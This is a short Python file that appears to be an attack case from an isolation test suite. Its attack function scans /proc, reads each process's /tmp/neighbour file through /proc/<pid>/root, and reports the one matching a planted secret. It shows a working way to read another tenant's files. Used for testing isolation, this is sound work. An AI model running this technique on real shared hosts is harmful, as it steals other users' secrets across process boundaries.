"""Reads what another function keeps in its /tmp, through /proc."""

import os

from kernel import read


def attack(world):
    for name in os.listdir("/proc"):
        path = f"/proc/{name}/root/tmp/neighbour"
        try:
            if name.isdigit() and read(path) == world["neighbourSecret"]:
                return path
        except OSError:
            pass
    return None
